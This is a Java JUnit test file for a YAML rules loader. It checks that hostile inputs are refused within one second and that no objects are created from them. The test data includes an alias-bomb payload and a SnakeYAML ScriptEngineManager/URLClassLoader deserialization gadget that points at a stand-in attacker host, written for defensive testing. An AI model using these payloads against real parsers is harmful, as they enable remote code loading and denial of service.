package io.levee.rules.load;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Collections;
import java.util.concurrent.TimeUnit;
import java.util.function.Supplier;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Input built to hurt the loader is refused quickly, with a located message, and creates nothing.
 * Each case is timed because the bound of one second is part of what is required.
 */
class HostileInputTest {
  private static final long ONE_SECOND = TimeUnit.SECONDS.toNanos(1);

  /** Set if a tag ever made the JVM initialise this class: the loader must never get that far. */
  static volatile boolean canaryInitialised;

  static final class Canary {
    static {
      canaryInitialised = true;
    }

    Canary(String anything) {}
  }

  @BeforeAll
  static void warmUp() {
    // class loading of the YAML library is not what the bound is about
    assertThat(RulesLoader.parse("warm-up", "version: 1\n").ok()).isTrue();
  }

  @Test
  void refusesAnAliasBomb() {
    StringBuilder yaml =
        new StringBuilder(
            "version: 1\na: &a [\"lol\",\"lol\",\"lol\",\"lol\","
                + "\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    for (char c = 'b'; c <= 'i'; c++) {
      String prev = "*" + (char) (c - 1);
      yaml.append(c)
          .append(": &")
          .append(c)
          .append(" [")
          .append(String.join(",", Collections.nCopies(9, prev)))
          .append("]\n");
    }

    RuleError error = onlyError(() -> RulesLoader.parse("bomb.yaml", yaml.toString()));

    assertThat(error.line()).isEqualTo(8);
    assertThat(error.message())
        .isEqualTo(
            "more than 50 aliases to lists or mappings; the limit guards against alias bombs");
  }

  @Test
  void refusesAScriptEngineTagWithoutCreatingAnything() {
    String yaml =
        "version: 1\nresources:\n  - !!javax.script.ScriptEngineManager"
            + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]\n";

    RuleError error = onlyError(() -> RulesLoader.parse("evil.yaml", yaml));

    assertThat(error.toString())
        .isEqualTo(
            "evil.yaml:3:5: YAML tags are not allowed, found `!!javax.script.ScriptEngineManager`");
  }

  @Test
  void refusesAUrlTag() {
    RuleError error =
        onlyError(
            () ->
                RulesLoader.parse(
                    "url.yaml", "version: 1\nsettings: !!java.net.URL [\"http://x/\"]\n"));

    assertThat(error.line()).isEqualTo(2);
    assertThat(error.column()).isEqualTo(11);
    assertThat(error.message()).isEqualTo("YAML tags are not allowed, found `!!java.net.URL`");
  }

  @Test
  void neverInitialisesTheClassATagNames() {
    String yaml =
        "version: 1\nsettings:\n  mode: !!"
            + Canary.class.getName()
            + " [x]\n"
            + "resources: !!"
            + Canary.class.getName()
            + " {}\n";

    RuleError error = onlyError(() -> RulesLoader.parse("canary.yaml", yaml));

    assertThat(error.message()).startsWith("YAML tags are not allowed");
    assertThat(canaryInitialised).isFalse();
  }

  @Test
  void refusesATwentyMegabyteFileWithoutReadingIt(@TempDir Path dir) throws IOException {
    Path big = dir.resolve("big.yaml");
    byte[] line =
        "# padding padding padding padding padding padding padding padding\n"
            .getBytes(StandardCharsets.UTF_8);
    try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(big), 1 << 16)) {
      out.write("version: 1\n".getBytes(StandardCharsets.UTF_8));
      long written = 11;
      while (written < 20L * 1024 * 1024) {
        out.write(line);
        written += line.length;
      }
    }

    RuleError error = onlyError(() -> RulesLoader.load(big));

    assertThat(error.toString())
        .isEqualTo(big + ":1:1: rules file is 20.0 MiB; the limit is 1 MiB");
  }

  @Test
  void refusesTwentyMegabytesOfText() {
    char[] text = new char[20 * 1024 * 1024];
    Arrays.fill(text, ' ');

    RuleError error = onlyError(() -> RulesLoader.parse("big", new String(text)));

    assertThat(error.message()).isEqualTo("rules text is 20.0 MiB; the limit is 1 MiB");
  }

  @Test
  void refusesTenThousandNestedLists() {
    String yaml = repeat("[", 10_000) + repeat("]", 10_000);

    RuleError error = onlyError(() -> RulesLoader.parse("deep.yaml", yaml));

    assertThat(error.line()).isEqualTo(1);
    assertThat(error.message())
        .isEqualTo("nested more than 50 levels deep; the limit guards against hostile input");
  }

  @Test
  void refusesTenThousandNestedMappings() {
    String yaml = "version: 1\nsettings: " + repeat("{a: ", 10_000) + "1" + repeat("}", 10_000);

    RuleError error = onlyError(() -> RulesLoader.parse("deep.yaml", yaml));

    assertThat(error.line()).isEqualTo(2);
    assertThat(error.message())
        .isEqualTo("nested more than 50 levels deep; the limit guards against hostile input");
  }

  private static RuleError onlyError(Supplier<LoadResult> load) {
    long start = System.nanoTime();
    LoadResult result = load.get();
    long elapsed = System.nanoTime() - start;

    assertThat(elapsed).as("nanoseconds to refuse").isLessThan(ONE_SECOND);
    assertThat(result.ok()).isFalse();
    assertThat(result.rules()).isNull();
    assertThat(result.errors()).hasSize(1);
    return result.errors().get(0);
  }

  private static String repeat(String s, int n) {
    return String.join("", Collections.nCopies(n, s));
  }
}
